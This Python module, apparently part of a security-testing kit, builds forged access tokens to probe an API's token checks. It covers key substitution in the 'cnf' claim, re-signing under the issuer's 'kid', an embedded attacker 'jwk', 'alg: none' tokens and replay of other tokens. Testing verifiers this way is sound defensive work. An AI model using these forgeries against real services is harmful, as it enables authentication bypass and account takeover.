"""Ways in with a token that isn't the agent's own for this API: for others, expired, or forged."""

from __future__ import annotations

from typing import Any

from dialtone_kit.attacks.bag import Bag, owner
from dialtone_kit.attacks.calls import Call, NotTried
from dialtone_kit.attacks.ways import Way
from dialtone_kit.base.errors import TokenRefused
from dialtone_kit.base.jws import b64url, to_segment
from dialtone_kit.keys import ProofKey
from dialtone_kit.tokens import Decoded, read_unverified


def of_kind(kind: str, doc: str) -> Way:
    """A way in with one of the victim's other tokens, and a good proof for it."""

    def way(bag: Bag) -> Call:
        return _call(bag, owner(bag).token(kind), owner(bag).key)

    way.__doc__ = doc
    return way


def changed_token(bag: Bag) -> Call:
    """The agent's token, with the attacker's key in its `cnf` and the signature that it had."""
    key = ProofKey.generate()
    return _call(bag, f"{_text(bag, key)}.{bag.T.rpartition('.')[2]}", key)


def token_by_my_own_key(bag: Bag) -> Call:
    """A token that the attacker's own key signed, under the issuer's `kid`."""
    return _signed(bag, ProofKey.generate())


def token_with_its_key(bag: Bag) -> Call:
    """A token that the attacker's own key signed, with that key in its header."""
    key = ProofKey.generate()
    return _signed(bag, key, jwk=key.public_jwk)


def token_of_alg_none(bag: Bag) -> Call:
    """A token of `alg` none, with nothing behind the last dot."""
    key = ProofKey.generate()
    return _call(bag, f"{_text(bag, key, alg='none')}.", key)


def _signed(bag: Bag, key: ProofKey, **header: Any) -> Call:
    text = _text(bag, key, alg=key.alg, **header)
    return _call(bag, f"{text}.{b64url(key.sign(text.encode()))}", key)


def _text(bag: Bag, key: ProofKey, **header: Any) -> str:
    """Header and claims of the agent's token, but for `header`, and bound to `key`."""
    read = _read(bag.T)
    claims = {**read.claims, "cnf": {"jkt": key.thumbprint}}
    return f"{to_segment({**read.header, **header})}.{to_segment(claims)}"


def _read(token: str) -> Decoded:
    try:
        return read_unverified(token)
    except TokenRefused:
        raise NotTried("the issuer's tokens are no JWTs, so none can be written") from None


def _call(bag: Bag, token: str, key: ProofKey) -> Call:
    return owner(bag).call(bag.target, token=token, key=key)
